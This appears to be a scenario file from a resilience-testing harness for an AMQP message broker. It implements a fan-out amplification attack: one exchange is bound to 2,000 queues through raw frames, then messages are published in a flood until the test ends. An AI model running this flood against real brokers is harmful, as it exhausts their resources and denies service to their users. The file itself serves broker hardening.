import type { Attack } from '../../attack.js';
import { HostilePeer, methodFrame, publishFrames, repeated } from '../../hostile-peer.js';

const QUEUES = 2_000;
const EXCHANGE = 'amplifier';

/** One small message that becomes two thousand, again and again. */
export const fanOut: Attack = {
  name: 'a fan-out to thousands of queues',
  refusals: [],
  run: async (scene) => {
    const peer = await HostilePeer.open(scene);
    const args = { 'x-max-length': 10 };
    await peer.call(1, 'exchange.declare', { exchange: EXCHANGE, type: 'fanout' });
    await peer.floodEach(scene.many(QUEUES), (number) => {
      const queue = `amplified-${number}`;
      const declared = { queue, exclusive: true, nowait: true, arguments: args };
      const bound = { queue, exchange: EXCHANGE, nowait: true };
      return Buffer.concat([
        methodFrame(1, 'queue.declare', declared),
        methodFrame(1, 'queue.bind', bound),
      ]);
    });
    await peer.settled();
    const publishes = repeated(publishFrames(1, { exchange: EXCHANGE }, Buffer.alloc(100)), 100);
    while (!scene.isOver) {
      await peer.flood(publishes);
      scene.count('messages', 100);
    }
    peer.cut();
  },
};
